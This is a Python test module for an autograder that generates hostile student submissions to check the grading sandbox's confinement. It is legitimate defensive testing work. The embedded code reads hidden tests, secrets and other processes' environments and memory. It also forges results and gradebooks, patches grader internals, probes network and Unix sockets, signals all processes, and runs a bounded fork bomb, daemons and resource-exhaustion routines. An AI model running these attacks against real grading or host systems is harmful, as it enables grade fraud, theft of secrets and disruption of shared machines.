"""Hostile 02_classification submissions that attack the sandbox, each with what it must not earn.

Where `hostile_corpus` tries the trusted side's robustness (file names,
notebooks, messages, banned APIs), these submissions attack the worker's
confinement: they read what a worker must not see, write where it must not
write, reach the network, signal, exhaust resources and leave processes
behind. Each attacked function pays only for a working attack: it returns
the right answer (computed by honest code hidden in the file) when its
attack works and garbage when it fails, so a score above zero on an
attacked exercise means the attack got through. Its other exercises are
honest and must keep their points.

Code that starts programs (`subprocess`, `os.posix_spawn`, ...) gates
every exercise it reaches: it runs where the static check cannot follow. So
the attackers whose tests must run use none of it, and what can only be done
by starting programs (daemons, a fork bomb) is the work of one attacker,
`leaves`, whose exercises are all gated: its attack runs while the file
loads, reports on what it printed, and the test checks from outside (the
processes left, a heartbeat file, the peak count of its children) that the
runtime limits held all the same.

The attacks aim at the real targets of one graded class (a `Scene`: the
course, the submissions, the output folder, a listener's ports, a token in
the grader's environment), written into each file by the test. Whatever
could hurt the machine if confinement failed is bounded in the file itself:
the fork bomb stops at `BOMB` children that sleep 20 s, the daemons stop after
60 s, and signals that reach "everything" are only sent where the worker is
either in a PID namespace of its own or a user of its own.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from pathlib import Path

from hostile_corpus import ACCURACY, CROSS_ENTROPY, HEAD, SOFTMAX

EXERCISES = ("softmax", "cross_entropy", "accuracy")
BOMB = 256
"""The most children the fork bomb starts: well above any worker's process limit, and few enough
that a machine where the limit does not hold survives it."""

HIDDEN = "hidden"
"""Hidden tests, the reference, the course secret, other students' work, the output folder and the
grader's processes (their memory, environment and command line) cannot be read."""
READ_ONLY = "read-only"
"""Nothing outside the worker's private temp folder can be written."""
NETWORK = "network"
"""No connection leaves the worker: not to the host's loopback, not outside, not to a host Unix socket."""
STATE = "state"
"""Nothing a worker writes survives into the next worker."""
LIMITS = "limits"
"""Memory, file size, temp space and output are capped, and a hanging call is stopped."""
PROCESS_COUNT = "process count"
"""A worker cannot start more than its limit of processes."""
TEMP_SPACE = "temp space"
"""A worker's temp folder is a size-capped space of its own."""
OWN_PROCESSES = "own processes"
"""A worker reaches no process outside its PID namespace: it can neither signal one nor write into its memory."""
PROTOCOL = "protocol"
"""Only the worker's answers count: printing, exiting, raising and signalling earn nothing."""

PROMISES: dict[str, frozenset[str]] = {
    "bubblewrap": frozenset({HIDDEN, READ_ONLY, NETWORK, STATE, LIMITS, PROCESS_COUNT, TEMP_SPACE, OWN_PROCESSES, PROTOCOL}),
    "bubblewrap as root": frozenset({HIDDEN, READ_ONLY, NETWORK, STATE, LIMITS, TEMP_SPACE, OWN_PROCESSES, PROTOCOL}),
    "namespaces": frozenset({HIDDEN, READ_ONLY, NETWORK, STATE, LIMITS, PROCESS_COUNT, TEMP_SPACE, OWN_PROCESSES, PROTOCOL}),
    "namespaces as root": frozenset({HIDDEN, READ_ONLY, NETWORK, STATE, LIMITS, TEMP_SPACE, OWN_PROCESSES, PROTOCOL}),
    "unprivileged user": frozenset({LIMITS, PROCESS_COUNT, PROTOCOL}),
    "process": frozenset({LIMITS, PROTOCOL}),
}
"""What each recorded isolation level promises (see `autograder.runner.launchers.LEVELS`): an attack
is expected to fail only where the level in force promises the protection it runs into."""


@dataclass(frozen=True)
class Scene:
    """The graded class as the attacks aim at it, all host paths and values chosen by the test."""

    course: Path
    submissions: Path
    out: Path
    canary_dir: Path
    """A world-writable folder in the host's /tmp, with a world-writable file in it."""
    home: Path
    token: str
    """Put into the grader's environment by the test: found anywhere by a submission, it is a leak."""
    tcp_port: int
    udp_port: int
    unix_socket: Path
    abstract_socket: str
    host_uid: int
    host_pid_namespace: str
    repository: Path
    """The repository's own course, hidden from workers as much as the test's copy."""

    @property
    def marker(self) -> str:
        """In the command line of every process a submission starts, so the test can find it."""
        return f"sandbox-marker-{self.token}"

    @property
    def sleep_seconds(self) -> str:
        """A fork bomb's children run `sleep 20.<digits>`: a command line no other process has."""
        return "20." + str(int(self.token[:12], 16))

    @property
    def heartbeats(self) -> tuple[Path, Path]:
        """World-writable files that the daemons touch every 0.1 s while they run: one in the host's /tmp,
        one in the host's home (which a worker that keeps the grader's uid may write)."""
        return self.canary_dir / "heartbeat", self.home / f".sandbox-heartbeat-{self.token}"

    @property
    def state_name(self) -> str:
        return f"sandbox-state-{self.token}"

    @property
    def home_canary(self) -> str:
        """A file the test puts in the host's home: a submission that sees it sees the real home."""
        return f".sandbox-home-canary-{self.token}"

    @property
    def honest_canary(self) -> str:
        """A line of the honest student's file: in anyone else's results, it is another student's work leaking."""
        return f"honest-canary-{self.token}"

    @property
    def out_canary(self) -> str:
        """A file the test puts in the output folder before grading, for the same reason."""
        return f".sandbox-out-canary-{self.token}"


@dataclass(frozen=True)
class SandboxAttack:
    """One hostile submission.

    `guards` maps each attacked exercise to the protections that must stop
    its attack (all of them promised, or the attack may get through); the
    other exercises are honest, and `hangs` lists the points an honest
    exercise loses to one deliberate hang. `ran` holds, for each exercise,
    "load" or "printed", patterns (regular expressions) that its tests'
    output, the result's notices or what the file printed (as feedback.md
    shows it) must show, so that an attack that broke before it tried
    anything cannot pass for one that was stopped. `gated` names what makes
    the static check gate every exercise: such an attack runs only while its
    file loads.
    """

    name: str
    source: str
    guards: dict[str, tuple[str, ...]]
    ran: dict[str, tuple[str, ...]]
    hangs: dict[str, float] = field(default_factory=dict)
    gated: tuple[str, ...] = ()

    @property
    def file(self) -> str:
        return f"{self.name}.py"

    def write(self, folder: Path) -> None:
        (folder / self.file).write_text(self.source, encoding="utf-8")


HONEST = "\n".join(
    code.replace(f"def {name}(", f"def _honest_{name}(")
    for code, name in ((SOFTMAX, "softmax"), (CROSS_ENTROPY, "cross_entropy"), (ACCURACY, "accuracy"))
)
PLAIN = {"softmax": SOFTMAX, "cross_entropy": CROSS_ENTROPY, "accuracy": ACCURACY}
SIGNATURES = {
    "softmax": ("def softmax(logits, dim=-1):", "_honest_softmax(logits, dim)"),
    "cross_entropy": ("def cross_entropy(logits, targets):", "_honest_cross_entropy(logits, targets)"),
    "accuracy": ("def accuracy(outputs, targets):", "_honest_accuracy(outputs, targets)"),
}
HELD_OFF = "held off: "
"""How an attacked function fails when its attack did: its message shows in public tests only."""


def _oracle(exercise: str, attack: str) -> str:
    """The exercise's function: right where `attack` (an expression giving (worked, report)) worked,
    else an exception whose message says what the attack tried."""
    signature, honest = SIGNATURES[exercise]
    return (
        f"{signature}\n    worked, report = {attack}\n    if worked:\n        return {honest}\n"
        f"    raise RuntimeError({HELD_OFF!r} + report)\n"
    )


def _preamble(scene: Scene) -> str:
    """Imports, the scene's values and honest code under private names."""
    values = {
        "COURSE": str(scene.course),
        "SUBMISSIONS": str(scene.submissions),
        "OUT": str(scene.out),
        "CANARY_DIR": str(scene.canary_dir),
        "HOST_HOME": str(scene.home),
        "REPOSITORY": str(scene.repository),
        "TOKEN": scene.token,
        "MARKER": scene.marker,
        "SLEEP": scene.sleep_seconds,
        "BOMB": BOMB,
        "HEARTBEATS": [str(path) for path in scene.heartbeats],
        "STATE_NAME": scene.state_name,
        "HOME_CANARY": scene.home_canary,
        "OUT_CANARY": scene.out_canary,
        "UNIX_SOCKET": str(scene.unix_socket),
        "ABSTRACT_SOCKET": "\0" + scene.abstract_socket,
        "TCP_PORT": scene.tcp_port,
        "UDP_PORT": scene.udp_port,
        "HOST_UID": scene.host_uid,
        "HOST_PID_NAMESPACE": scene.host_pid_namespace,
    }
    lines = [HEAD + "import os\nimport signal\nimport socket\nimport sys\nimport time\n"]
    lines += [f"{key} = {value!r}" for key, value in values.items()]
    return "\n".join(lines) + "\n" + HONEST


def _assemble(scene: Scene, attack_code: str, functions: dict[str, str]) -> str:
    """A file: preamble, the attack's helpers, then one function per exercise (attacked or honest)."""
    body = [functions.get(name, PLAIN[name]) for name in EXERCISES]
    return _preamble(scene) + attack_code + "\n".join(body)


SNOOPS = '''
ASSIGNMENT = "02_classification"
HIDDEN_TESTS = os.path.join(COURSE, "assignments", ASSIGNMENT, "tests", "hidden")
SOLUTION_NAMES = ("classification.py", "test_softmax.py", "test_cross_entropy.py", "test_accuracy.py")
SOLUTIONS = [os.path.join(root, folder, ASSIGNMENT, SOLUTION_NAMES[0]) for root in (COURSE, REPOSITORY) for folder in ("reference", "assignments")]
SOLUTIONS += [os.path.join(root, "assignments", ASSIGNMENT, "tests", "hidden", name) for root in (COURSE, REPOSITORY) for name in SOLUTION_NAMES[1:]]
OTHERS = [os.path.join(SUBMISSIONS, "honest.py"), os.path.join(COURSE, ".autograder-secret"), os.path.join(REPOSITORY, ".autograder-secret")]
FOLDERS = [OUT, SUBMISSIONS, HIDDEN_TESTS]
GRADER_FILES = {
    "test_softmax.py": b"from autograder.testing import",
    "test_cross_entropy.py": b"from autograder.testing import",
    "test_accuracy.py": b"from autograder.testing import",
    "classification.py": b"def softmax(",
    "honest.py": b"def softmax(",
    ".autograder-secret": b"",
    "results.json": b"",
    "gradebook.csv": b"",
    "feedback.md": b"",
}
GRADER_CMDLINE = [b"autograder.cli", b"spawn_main", b"pytest", COURSE.encode(), SUBMISSIONS.encode(), OUT.encode()]
SIGN = "# written by a hostile submission\\n"
WALKED = []


def _read(path, size=4096):
    try:
        with open(path, "rb") as handle:
            return handle.read(size)
    except OSError:
        return b""


def _walk(seconds):
    """The folders of the whole visible filesystem (as far as `seconds` allow), with their files."""
    deadline = time.monotonic() + seconds
    for root, folders, files in os.walk("/"):
        if time.monotonic() > deadline:
            return
        folders[:] = [f for f in folders if os.path.join(root, f) not in ("/proc", "/sys", "/dev")]
        WALKED.append(root)
        yield root, files


def _grader_files():
    """Every grader's file (by its name and content) that a short walk finds."""
    found = []
    for root, files in _walk(1.5):
        for name in files:
            path = os.path.join(root, name)
            if name in GRADER_FILES and GRADER_FILES[name] in _read(path, 65536):
                found.append(path)
    return found


def _steal_files():
    stolen = {}
    for path in SOLUTIONS + OTHERS + _grader_files():
        data = _read(path)
        if data:
            stolen[path] = data
    for folder in FOLDERS:
        try:
            names = os.listdir(folder)
        except OSError:
            continue
        if names:
            stolen[folder] = repr(names).encode()
    try:
        import autograder
        stolen["import autograder"] = repr(autograder).encode()
    except ImportError:
        pass
    return stolen


def _regions(pid):
    try:
        with open(f"/proc/{pid}/maps") as maps:
            lines = maps.read().splitlines()
    except OSError:
        return []
    regions = []
    for line in lines:
        if line.endswith(("[stack]", "[heap]")):
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            regions.append((start, min(end, start + 16 * 2**20)))
    return regions


def _steal_from_processes():
    """The token from another process's environment or memory, or a grader's command line: from every pid."""
    stolen = {}
    me = os.readlink("/proc/self")
    pids = [pid for pid in os.listdir("/proc") if pid.isdigit() and pid != me]
    for pid in pids:
        cmdline = _read(f"/proc/{pid}/cmdline")
        if any(sign in cmdline for sign in GRADER_CMDLINE):
            stolen[f"cmdline {pid}"] = cmdline
        if TOKEN.encode() in _read(f"/proc/{pid}/environ", 2**20):
            stolen[f"environ {pid}"] = TOKEN.encode()
        for start, end in _regions(pid):
            try:
                with open(f"/proc/{pid}/mem", "rb") as memory:
                    memory.seek(start)
                    if TOKEN.encode() in memory.read(end - start):
                        stolen[f"mem {pid}"] = TOKEN.encode()
            except (OSError, ValueError, OverflowError):
                pass
    return stolen, len(pids)


STOLEN_FILES = _steal_files()
for _path, _data in STOLEN_FILES.items():
    print("STOLEN", _path, _data[:400])


def _is_solution(path):
    return path in SOLUTIONS or os.path.basename(path) in SOLUTION_NAMES


def _solutions_stolen():
    found = [path for path in STOLEN_FILES if _is_solution(path)]
    return bool(found), f"read {len(found)} of the reference and hidden tests ({len(SOLUTIONS)} paths tried, {len(WALKED)} folders walked)"


def _others_stolen(seen=[]):
    """Other students' work, the output folder, the secret, the trusted package, or a grader process."""
    if not seen:
        others = [path for path in STOLEN_FILES if not _is_solution(path)]
        processes, tried = _steal_from_processes()
        report = f"read {len(others)} of other students' work, the output, the secret and autograder; {len(processes)} secrets from {tried} processes"
        seen.append((bool(others or processes), report))
    return seen[0]


def _is_real(folder, sign):
    """Whether `folder` is the host's own: a file the test put there is visible, so a write lands there."""
    return bool(_read(os.path.join(folder, sign), 64))


APPENDED = [
    (HIDDEN_TESTS, "test_softmax.py"),
    (os.path.join(COURSE, "reference", ASSIGNMENT), "classification.py"),
    (os.path.join(COURSE, "assignments", ASSIGNMENT), "assignment.toml"),
    (SUBMISSIONS, "honest.py"),
    (CANARY_DIR, "canary.txt"),
]
CREATED = [
    (HIDDEN_TESTS, "test_softmax.py", os.path.join("__pycache__", "test_softmax.cpython-311.pyc")),
    (HIDDEN_TESTS, "test_softmax.py", "test_injected.py"),
    (SUBMISSIONS, "honest.py", "zz_injected.py"),
    (CANARY_DIR, "canary.txt", "created.txt"),
    (HOST_HOME, HOME_CANARY, "." + MARKER),
]


def _write(path, mode, text=SIGN):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, mode) as handle:
            handle.write(text)
        return True
    except OSError:
        return False


def _outside_written():
    """Change the course, the submissions, the host's /tmp and home: one result per write that was aimed."""
    landed = [_write(os.path.join(folder, name), "a") for folder, name in APPENDED if _is_real(folder, name)]
    landed += [_write(os.path.join(folder, name), "w") for folder, sign, name in CREATED if _is_real(folder, sign)]
    for folder, name in APPENDED[:2]:
        if _is_real(folder, name):
            try:
                os.chmod(os.path.join(folder, name), 0o777)
                landed.append(True)
            except OSError:
                landed.append(False)
    return landed


OUTPUT_FOLDERS = {OUT} | {root for root, files in _walk(1.0) if {"gradebook.csv", OUT_CANARY} & set(files)}
FORGED = '{"score": 35.5, "max_score": 35.5, "tests": [{"name": "softmax: all", "score": 35.5, "max_score": 35.5, "status": "passed"}]}'


def _results_forged():
    """A perfect results.json for every student and for a new one, and a new gradebook, wherever the output is."""
    landed = []
    for folder in OUTPUT_FOLDERS:
        if not (_is_real(folder, OUT_CANARY) or _is_real(folder, "gradebook.csv")):
            continue
        students = [os.path.join(folder, name) for name in os.listdir(folder) if os.path.isdir(os.path.join(folder, name))]
        landed += [_write(os.path.join(target, "results.json"), "w", FORGED) for target in [os.path.join(folder, "zz_forged")] + students]
        landed.append(_write(os.path.join(folder, "gradebook.csv"), "w", "student,total\\nsnoops,35.5\\n"))
    return landed


def _outside_changed(seen=[]):
    if not seen:
        landed = _outside_written() + _results_forged()
        seen.append((any(landed), f"{sum(landed)} of {len(landed)} writes landed outside ({len(OUTPUT_FOLDERS)} output folders found)"))
    return seen[0]
'''

PATCHES = '''
HELPER = """
import gc
import torch


SILENCED = []


def _silence():
    if SILENCED:
        return
    SILENCED.append(True)
    for obj in gc.get_objects():
        if isinstance(obj, type) and obj.__name__ == "OpRecord":
            obj._note = lambda self, op: None
            obj.reply = lambda self: {}
        if type(obj).__name__ == "OpRecord":
            obj.ops.clear()


def normalise(logits, dim):
    _silence()
    return torch.softmax(logits, dim)
"""


def _helper():
    """A module written at run time, which the static check never reads."""
    folder = os.getcwd()
    with open(os.path.join(folder, "sandbox_helper.py"), "w") as handle:
        handle.write(HELPER)
    if folder not in sys.path:
        sys.path.insert(0, folder)
    import sandbox_helper
    return sandbox_helper
'''
PATCHED_SOFTMAX = "def softmax(logits, dim=-1):\n    return _helper().normalise(logits, dim)\n"

KEEPS_STATE = '''
STATE_PLACES = ["/dev/shm", "/var/tmp", "/run/lock", "/dev/mqueue", "/tmp", os.getcwd(), os.path.expanduser("~")]


def _state_found():
    """Whether an earlier worker left its mark in a place every worker shares: the temp folders, its
    folder and its home. (The host's home is not one: a level that lets a worker write it promises no
    read-only filesystem, and `snoops` writes there.)"""
    return any(os.path.exists(os.path.join(place, STATE_NAME)) for place in STATE_PLACES)


def _leave_state():
    for place in STATE_PLACES:
        try:
            with open(os.path.join(place, STATE_NAME), "w") as handle:
                handle.write(TOKEN)
        except OSError:
            pass


STATE_SURVIVED = [_state_found()]
_leave_state()


def _state_survived():
    """Right when a mark survived; else end this worker (exit status 3), so that the next one looks again."""
    if STATE_SURVIVED[0]:
        return True, "a mark survived"
    os._exit(3)
'''

NETWORK_CODE = '''
def _tcp(host, port):
    """Hosts are bytes: a text host needs the idna codec, which a worker may be unable to import."""
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as connection:
            connection.settimeout(1)
            connection.connect((host, port))
            connection.sendall(b"hello from a sandbox")
        return True
    except OSError:
        return False


def _udp(host, port):
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagram:
            datagram.sendto(b"hello from a sandbox", (host, port))
        return True
    except OSError:
        return False


def _unix(address):
    try:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as connection:
            connection.settimeout(1)
            connection.connect(address)
            connection.sendall(b"hello from a sandbox")
        return True
    except OSError:
        return False


def _reaches_out(seen=[]):
    """The host's loopback (a port the test listens on), the outside, UDP, and Unix sockets of the host."""
    if not seen:
        tries = {
            "tcp loopback": _tcp(b"127.0.0.1", TCP_PORT),
            "tcp outside": _tcp(b"1.1.1.1", 80),
            "udp loopback": _udp(b"127.0.0.1", UDP_PORT),
            "udp outside": _udp(b"8.8.8.8", 53),
            "unix socket": _unix(UNIX_SOCKET),
            "abstract socket": _unix(ABSTRACT_SOCKET),
        }
        reached = [name for name, done in tries.items() if done]
        seen.append((bool(reached), f"reached {reached} of {len(tries)} ways out"))
    return seen[0]
'''

LEAVES = '''
import subprocess

DAEMON = (
    'trap "" HUP INT TERM; '
    '( trap "" HUP INT TERM; i=0; while [ $i -lt 600 ]; do touch "$@" 2>/dev/null; sleep 0.1; i=$((i+1)); done ) & '
    'exit 0'
)
DAEMONS = []


def _daemon():
    """A shell in a session of its own that double-forks a loop touching the host's heartbeat files every 0.1 s."""
    try:
        DAEMONS.append(subprocess.Popen(["/bin/sh", "-c", DAEMON, MARKER, *HEARTBEATS], start_new_session=True,
                                        stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL).pid)
    except OSError as exc:
        print("no daemon:", exc)


def _setsid_fork():
    """The same loop, started by `setsid -f`."""
    try:
        DAEMONS.append(os.posix_spawn("/usr/bin/setsid", ["setsid", "-f", "/bin/sh", "-c", DAEMON, MARKER, *HEARTBEATS], {}))
    except OSError as exc:
        print("no setsid daemon:", exc)


def _fork_bomb():
    """As many sleeping children as the worker may start, up to BOMB; held a second, so the count shows from outside."""
    started = 0
    error = "none"
    try:
        while started < BOMB:
            os.posix_spawn("/bin/sleep", ["sleep", SLEEP], {})
            started += 1
    except OSError as exc:
        error = type(exc).__name__
    time.sleep(1)
    return f"children: {started} of {BOMB} ({error})"


_daemon()
_setsid_fork()
print(f"uid {os.getuid()}; {len(DAEMONS)} daemons started {DAEMONS}; {_fork_bomb()}", flush=True)
'''

MISBEHAVES = '''
FAKE = (
    '{"score": 35.5, "max_score": 35.5, "output": "All tests passed", "tests": ['
    '{"name": "softmax: all", "score": 13, "max_score": 13, "status": "passed"}, '
    '{"name": "cross_entropy: all", "score": 14, "max_score": 14, "status": "passed"}, '
    '{"name": "accuracy: all", "score": 8.5, "max_score": 8.5, "status": "passed"}]}'
)


def _fake_results():
    """A results.json on the output streams and wherever a grader might look for one."""
    print(FAKE)
    print(FAKE, file=sys.stderr)
    for path in ("results.json", "/tmp/results.json", "/autograder/results/results.json"):
        try:
            os.makedirs(os.path.dirname(os.path.abspath(path)), exist_ok=True)
            with open(path, "w") as handle:
                handle.write(FAKE)
        except OSError:
            pass
    sys.stdout.flush()
    sys.stderr.flush()


def _confined():
    """Signal 'everything' only where that cannot reach the machine: in a PID namespace or as a user of one's own."""
    try:
        namespace = os.readlink("/proc/self/ns/pid")
    except OSError:
        namespace = HOST_PID_NAMESPACE
    return namespace != HOST_PID_NAMESPACE or os.getuid() != HOST_UID


def _signal_everything():
    """SIGSTOP to every process in /proc, then SIGKILL to every process the worker may signal."""
    if not _confined():
        return "not confined: nothing signalled"
    me = os.getpid()
    stopped = 0
    for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
        if pid != me:
            try:
                os.kill(pid, signal.SIGSTOP)
                stopped += 1
            except OSError:
                pass
    try:
        os.kill(-1, signal.SIGKILL)
        killed = "sent"
    except OSError as exc:
        killed = type(exc).__name__
    return f"stopped {stopped} processes, kill(-1, SIGKILL) {killed}"


def _writable_memories():
    """Other processes whose memory this one may write: code put there runs wherever that process is."""
    me = os.readlink("/proc/self")
    writable = []
    for pid in os.listdir("/proc"):
        if pid.isdigit() and pid != me:
            try:
                with open(f"/proc/{pid}/mem", "r+b"):
                    writable.append(pid)
            except OSError:
                pass
    return writable


def _flood():
    """A gigabyte of output (or until the grader stops reading)."""
    line = "y" * (2**20 - 1)
    printed = 0
    try:
        for _ in range(1024):
            print(line)
            printed += 2**20
    except BrokenPipeError:
        pass
    return printed


def _exit_quietly(logits):
    """Exit with status 0, as if every test had passed; or kill the parent, then the process group."""
    _fake_results()
    if logits.shape[0] == 1:
        os._exit(0)
    os.kill(os.getppid(), signal.SIGKILL)
    os.killpg(0, signal.SIGKILL)
    return False, "still alive after killing its parent and its process group"


def _interrupt(logits):
    """KeyboardInterrupt and SystemExit(0) on the lecture examples, then kill the process group."""
    _fake_results()
    if logits.shape[0] == 1:
        if logits[0, 1] < logits[0, 0]:
            raise KeyboardInterrupt
        raise SystemExit(0)
    os.killpg(0, signal.SIGKILL)
    return False, "still alive after killing its process group"


def _burn():
    """Every core, with 8 intra-op threads, until stopped (or two minutes at most)."""
    torch.set_num_threads(8)
    a = torch.rand(256, 256)
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline:
        a = (a @ a).clamp_(0, 1)
    return False, "burnt two minutes"


def _stop_everyone(outputs, seen=[]):
    """Stop and kill everything, flood the output; in one public test, burn every core instead."""
    if outputs.shape[0] == 2:
        return _burn()
    if not seen:
        _fake_results()
        report = f"{_signal_everything()}; memory of {len(_writable_memories())} other processes writable"
        seen.append((False, f"{report}; printed {_flood()} bytes"))
    return seen[0]


_fake_results()
'''
EXIT_AT_IMPORT = "\nos._exit(0)\n"

HOGS = '''
import errno
import tempfile

def _six_gib():
    try:
        hoard = bytearray(6 * 2**30)
        return len(hoard) == 6 * 2**30, "allocated 6 GiB"
    except MemoryError:
        return False, "6 GiB: MemoryError"


def _two_gb_files():
    """Fill the temp folder with files under the size limit, empty it, then write a 2 GB file there, in the cwd and in /tmp."""
    chunk = b"x" * 2**20
    outcomes = []
    parts = []
    try:
        for index in range(2048):
            parts.append(os.path.join(tempfile.gettempdir(), f"part{index}.bin"))
            with open(parts[-1], "wb") as part:
                part.write(chunk)
        outcomes.append("2 GB of parts written")
    except OSError as exc:
        outcomes.append(f"parts: {errno.errorcode.get(exc.errno, type(exc).__name__)}")
    for path in parts:
        os.remove(path)
    for path in (tempfile.mkstemp()[1], os.path.join(os.getcwd(), "big.bin"), "/tmp/big.bin"):
        try:
            with open(path, "wb") as big:
                for _ in range(2048):
                    big.write(chunk)
            outcomes.append(f"2 GB written to {path}")
        except OSError as exc:
            outcomes.append(f"{path}: {errno.errorcode.get(exc.errno, type(exc).__name__)}")
    return any("written" in o for o in outcomes), "; ".join(outcomes)


def accuracy(outputs, targets):
    """Honest, but one hidden test prints a gigabyte and then never ends."""
    if outputs.shape[0] == 7:
        try:
            for _ in range(1024):
                print("z" * (2**20 - 1))
        except BrokenPipeError:
            pass
        deadline = time.monotonic() + 120
        while time.monotonic() < deadline:
            pass
    return _honest_accuracy(outputs, targets)
'''


def attacks(scene: Scene) -> list[SandboxAttack]:
    """The corpus, aimed at `scene`."""
    return [
        SandboxAttack(
            "snoops",
            _assemble(
                scene,
                SNOOPS,
                {
                    "softmax": _oracle("softmax", "_solutions_stolen()"),
                    "cross_entropy": _oracle("cross_entropy", "_others_stolen()"),
                    "accuracy": _oracle("accuracy", "_outside_changed()"),
                },
            ),
            {"softmax": (HIDDEN,), "cross_entropy": (HIDDEN,), "accuracy": (READ_ONLY,)},
            {"softmax": (r"[1-9]\d* folders walked",), "cross_entropy": (r"secrets from \d+ processes",), "accuracy": (r"writes landed outside",)},
        ),
        SandboxAttack(
            "escapes",
            _assemble(
                scene,
                PATCHES + KEEPS_STATE + NETWORK_CODE,
                {
                    "softmax": PATCHED_SOFTMAX,
                    "cross_entropy": _oracle("cross_entropy", "_state_survived()"),
                    "accuracy": _oracle("accuracy", "_reaches_out()"),
                },
            ),
            {"softmax": (PROTOCOL,), "cross_entropy": (STATE,), "accuracy": (NETWORK,)},
            {
                "softmax": (r"`import sandbox_helper` would load .*sandbox_helper\.py, which is not part of your submission",),
                "cross_entropy": (r"exit status 3",),
                "accuracy": (r"reached \[\] of 6 ways out",),
            },
        ),
        SandboxAttack(
            "misbehaves",
            _assemble(
                scene,
                MISBEHAVES,
                {
                    "softmax": _oracle("softmax", "_exit_quietly(logits)"),
                    "cross_entropy": _oracle("cross_entropy", "_interrupt(logits)"),
                    "accuracy": _oracle("accuracy", "_stop_everyone(outputs)"),
                },
            )
            + EXIT_AT_IMPORT,
            {"softmax": (PROTOCOL,), "cross_entropy": (PROTOCOL,), "accuracy": (PROTOCOL,)},
            {
                "load": ("exit status 0",),
                "softmax": (r"exit status 0", r"still alive after killing its parent|SIGKILL"),
                "cross_entropy": (r"KeyboardInterrupt", r"sys\.exit\(0\)", r"still alive after killing its process group|SIGKILL"),
                "accuracy": (r"stopped \d+ processes, kill\(-1, SIGKILL\)|not confined", r"memory of \d+ other processes writable", r"printed \d+ bytes", r"did not finish within"),
            },
        ),
        SandboxAttack(
            "hogs",
            _assemble(
                scene,
                HOGS,
                {"softmax": _oracle("softmax", "_six_gib()"), "cross_entropy": _oracle("cross_entropy", "_two_gb_files()"), "accuracy": ""},
            ),
            {"softmax": (LIMITS,), "cross_entropy": (TEMP_SPACE, LIMITS)},
            {"softmax": (r"6 GiB: MemoryError",), "cross_entropy": (r"parts: ENOSPC", r"big\.bin: EFBIG")},
            hangs={"accuracy": 0.5},
        ),
        SandboxAttack(
            "leaves",
            _assemble(scene, LEAVES, {}),
            {},
            {"printed": (rf"uid \d+; 2 daemons started \[\d+, \d+\]; children: \d+ of {BOMB} \(\w+\)",)},
            gated=("subprocess", "os.posix_spawn"),
        ),
    ]
